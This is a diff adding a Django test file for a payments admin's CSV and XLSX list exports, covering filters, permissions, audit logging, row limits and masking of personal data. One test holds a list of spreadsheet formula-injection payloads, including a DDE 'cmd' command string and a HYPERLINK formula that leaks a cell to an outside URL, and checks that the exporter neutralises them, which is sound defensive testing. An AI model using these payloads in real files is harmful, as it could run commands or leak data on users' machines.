@@ -1,0 +1,273 @@
+"""Lists as files: exactly what is filtered, exact, harmless in a spreadsheet, for who may, and on record."""
+
+import csv
+import io
+import re
+import tracemalloc
+import zipfile
+from decimal import Decimal
+from string import ascii_uppercase
+from xml.etree import ElementTree
+
+import pytest
+from django.contrib.auth.models import Permission, User
+from django.db import connection
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+
+from audit import services as audit
+from audit.models import AuditLog
+from gigstream.lib.spreadsheets import FORMS, text_of
+from loans import services as loans
+from loans.models import Loan
+from loans.reports import LoanRepaymentStatus, WorkerEarnings, WorkerRiskAssessment
+from payments import services as payments
+from payments.models import LedgerEntry, Transaction
+from payments.reports import ActiveStream, DailyTransactionSummary, PlatformPerformance
+from platforms import services as platforms
+from platforms.reports import TaskCompletionStats
+from reputation.reports import ReputationHistory
+from tests.factories import NOW, WorkerFactory, fund, running_stream, seconds, settle, started
+
+EXPORTED = (
+    WorkerEarnings,
+    PlatformPerformance,
+    DailyTransactionSummary,
+    WorkerRiskAssessment,
+    ActiveStream,
+    TaskCompletionStats,
+    ReputationHistory,
+    LoanRepaymentStatus,
+    Transaction,
+    LedgerEntry,
+    Loan,
+    AuditLog,
+)
+BEGINNINGS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+LETTERS = [*ascii_uppercase, *(f"A{one}" for one in ascii_uppercase)]
+PAYLOADS = (
+    *(f"{sign}1+1" for sign in BEGINNINGS),
+    *(f"  {sign}cmd|' /C calc'!A0" for sign in BEGINNINGS),
+    *(f"\u00a0{sign}HYPERLINK(A1)" for sign in BEGINNINGS),
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " \n\t@SUM(A1)",
+    "\ufeff=1",
+    "\u200b=1",
+    "\u2060-2",
+    '=HYPERLINK("http://example.com?"&A1,\n"two lines")',
+    "\tplain",
+)
+
+pytestmark = pytest.mark.django_db
+
+
+def sheet(content):
+    """The cells of a workbook's only sheet: text, or the number as it is written."""
+    names = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        assert not re.search(rb"<f[ >]", book.read("xl/worksheets/sheet1.xml"))
+        root = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - of our making
+    rows = []
+    for row in root.iterfind(".//m:row", names):
+        cells = {}
+        for cell in row.findall("m:c", names):
+            letters = re.match("[A-Z]+", cell.get("r"))[0]
+            cells[letters] = "".join(part.text for part in cell.iter() if part.text)
+        rows.append([cells.get(letters, "") for letters in LETTERS[: len(rows[0]) if rows else len(cells)]])
+    return rows
+
+
+def lines(content):
+    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+
+
+def member(*permissions):
+    user = User.objects.create_user(f"m{User.objects.count()}", password="x", is_staff=True)
+    user.user_permissions.set(Permission.objects.filter(codename__in=permissions))
+    client = Client()
+    client.force_login(user)
+    client.user = user
+    return client
+
+
+@pytest.fixture
+def clerk():
+    return member(*(f"view_{model._meta.model_name}" for model in EXPORTED), "export_lists")
+
+
+def address(model, form="csv"):
+    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export_{form}")
+
+
+def exported(client, model, form="csv", **query):
+    answer = client.get(address(model, form), query)
+    assert answer.status_code == 200, (model, answer.status_code)
+    assert answer.streaming
+    assert answer["Content-Type"] == FORMS[form].media_type
+    assert f'filename="{model._meta.model_name}.{form}"' in answer["Content-Disposition"]
+    return b"".join(answer.streaming_content)
+
+
+def some_work():
+    worker = WorkerFactory(full_name="=1+1")
+    for amount in ("10", "12345678901.234567"):
+        platform = running_stream(worker, total="5").platform
+        fund(platform, "90000000000")
+        platforms.complete_task(task_id=started(worker, platform=platform, amount=amount).pk, now=NOW)
+    payments.cash_out(worker_id=worker.pk, amount="4", now=NOW)
+    settle(NOW + seconds(30))
+    loans.request_loan(worker_id=WorkerFactory().pk, amount="20", fee_bps=200, now=NOW)
+    return worker
+
+
+def test_every_list_is_exported_as_it_is_listed_in_both_forms_by_fixed_statements(clerk):
+    worker = some_work()
+    counts = {}
+    for model in EXPORTED:
+        listed = model._default_manager.count()
+        with CaptureQueriesContext(connection) as captured:
+            rows = lines(exported(clerk, model))
+        assert len(captured) <= 16, (model, [one["sql"] for one in captured])
+        counts[model] = len(captured)
+        assert len(rows) == listed > 0, model
+        cells = sheet(exported(clerk, model, "xlsx"))
+        extra = 1 if model is AuditLog else 0
+        assert len(cells) == listed + extra + 1
+        assert cells[0] == list(rows[0])
+        assert not {"password_hash", "wallet_id", "secret_hash"} & set(cells[0])
+    some_work()
+    for model in EXPORTED:
+        with CaptureQueriesContext(connection) as captured:
+            exported(clerk, model)
+        assert len(captured) == counts[model], model
+    (row,) = lines(exported(clerk, WorkerEarnings, worker=worker.pk))
+    assert (row["worker_id"], row["worker_name"]) == (str(worker.pk), "'=1+1")
+
+
+def test_amounts_are_exact_and_times_are_utc(clerk):
+    some_work()
+    large = LedgerEntry.objects.get(kind="earning", amount__gt=1000)
+
+    (row,) = lines(exported(clerk, LedgerEntry, q=large.pk))
+    assert row["amount"] == "12345678901.234567"
+    assert row["created_at"] == "2026-03-02T12:00:00Z"
+    assert row["credit_account_worker_id"] == str(large.credit_account.worker_id)
+
+    header, cells = sheet(exported(clerk, LedgerEntry, "xlsx", q=large.pk))
+    assert cells[header.index("amount")] == "12345678901.234567"
+    assert text_of(Decimal("-0.000001")) == "-0.000001"
+    small = dict(zip(*sheet(exported(clerk, Transaction, "xlsx", type__exact="payout")), strict=True))
+    assert Decimal(small["amount"]) == 4
+
+
+def test_the_file_holds_what_filter_and_search_leave_and_is_on_record(clerk):
+    worker = some_work()
+    other = some_work()
+
+    rows = lines(exported(clerk, Transaction, type__exact="payout", q=other.email))
+
+    (payout,) = Transaction.objects.filter(worker=other, type="payout")
+    assert [row["id"] for row in rows] == [str(payout.pk)]
+    line = AuditLog.objects.get(action="list.export")
+    assert (line.actor_type, line.actor_id) == ("staff", str(clerk.user.pk))
+    assert (line.resource_type, line.metadata["rows"], line.metadata["form"]) == ("transaction", 1, "csv")
+    assert line.metadata["filters"] == "type__exact=payout"
+    assert other.email not in str(line.metadata)
+    assert (
+        len(lines(exported(clerk, Transaction, worker=worker.pk)))
+        == Transaction.objects.filter(worker=worker).count()
+    )
+    assert lines(exported(clerk, Transaction, created_at__year=2026, created_at__month=3))
+    assert not lines(exported(clerk, Transaction, created_at__year=2025))
+
+
+def test_a_list_beyond_the_limit_is_refused_with_the_limit_and_nothing_is_recorded(clerk, settings):
+    some_work()
+    settings.EXPORT_MAX_ROWS = 2
+    for form in FORMS:
+        answer = clerk.get(address(LedgerEntry, form), {"kind__exact": "hold"}, follow=True)
+        assert answer.redirect_chain[-1][0].endswith("?kind__exact=hold")
+        (said,) = [str(message) for message in answer.context["messages"]]
+        assert said == "The list has more than 2 rows: narrow it by filters. Nothing was exported."
+    assert not AuditLog.objects.filter(action="list.export").exists()
+    settings.EXPORT_MAX_ROWS = 4
+    assert len(lines(exported(clerk, LedgerEntry, kind__exact="hold"))) == 4
+
+
+def test_who_may_only_see_a_list_takes_no_file_and_the_exporter_only_what_they_see(clerk):
+    some_work()
+    viewer = member("view_transaction")
+    exporter = member("view_loan", "export_lists")
+    for form in FORMS:
+        assert viewer.get(address(Transaction, form)).status_code == 403
+        assert exporter.get(address(Transaction, form)).status_code == 403
+        assert exporter.get(address(Loan, form)).status_code == 200
+        assert clerk.post(address(Loan, form)).status_code == 403
+        assert Client().get(address(Loan, form)).status_code == 302
+    listed = reverse("admin:payments_transaction_changelist")
+    assert "export.csv" not in viewer.get(listed).content.decode()
+    assert "export.csv?type__exact=payout" in clerk.get(listed, {"type__exact": "payout"}).content.decode()
+
+
+def test_personal_data_are_hidden_in_a_file_from_whom_they_are_hidden_on_the_pages(clerk):
+    worker = WorkerFactory(full_name="Grace Brewster Hopper")
+    platforms.complete_task(task_id=started(worker, amount="10").pk, now=NOW)
+    payments.cash_out(worker_id=worker.pk, amount="4", now=NOW)
+    hidden = {worker.full_name, worker.wallet_address}
+
+    for form in FORMS:
+        rows = str([sheet, lines][form == "csv"](exported(clerk, Transaction, form)))
+        assert not any(text in rows for text in hidden)
+        assert "Grace H." in rows
+    clerk.user.user_permissions.add(Permission.objects.get(codename="see_personal_data"))
+    (row,) = lines(exported(clerk, Transaction, type__exact="payout"))
+    assert hidden == {row["worker_name"], row["to_wallet"]}
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_no_payload_from_outside_is_a_formula_in_a_file(form):
+    assert len(PAYLOADS) > 30
+    file = io.BytesIO()
+    rows = [(text, f"safe {text}", Decimal("-1.5"), -7, None, True) for text in PAYLOADS]
+
+    assert FORMS[form].write(
+        file, ["text", "inside", "amount", "number", "nothing", "flag"], iter(rows)
+    ) == len(rows)
+
+    if form == "csv":
+        read = [list(row) for row in csv.reader(io.StringIO(file.getvalue().decode(), newline=""))][1:]
+        assert [row[0] for row in read] == [f"'{text}" for text in PAYLOADS]
+        assert [row[1] for row in read] == [f"safe {text}" for text in PAYLOADS]
+        assert {tuple(row[2:]) for row in read} == {("-1.5", "-7", "", "true")}
+    else:
+        read = sheet(file.getvalue())[1:]
+        assert all(row[0].startswith("'") for row in read)
+        assert {tuple(row[2:]) for row in read} == {("-1.5", "-7", "", "true")}
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_memory_stays_the_same_however_long_the_list(form, tmp_path):
+    rows = ((number, f"{number} {'x' * 1000}") for number in range(10_000))
+    with (tmp_path / form).open("wb+") as file:
+        FORMS[form].write(io.BytesIO(), ["number", "text"], [])
+        tracemalloc.start()
+        FORMS[form].write(file, ["number", "text"], rows)
+        _, peak = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+    assert peak < 2_000_000
+
+
+def test_dates_lead_into_a_list_without_reading_it(clerk):
+    audit.record("worker.look", WorkerFactory())
+    listed = reverse("admin:audit_auditlog_changelist")
+    with CaptureQueriesContext(connection) as captured:
+        html = clerk.get(listed, {"created_at__year": "2026", "created_at__month": "3"}).content.decode()
+    assert "created_at__day=31" in html
+    assert "created_at__month=3" in html
+    assert not [one for one in captured if "MIN(" in one["sql"] or "DATE_TRUNC" in one["sql"]]
+    assert clerk.get(listed, {"created_at__year": "2026", "created_at__month": "13"}).status_code == 302
+    assert clerk.get(listed, {"created_at__month": "13"}).status_code in (200, 302)
+    assert f"created_at__year={NOW.year}" in clerk.get(listed).content.decode()
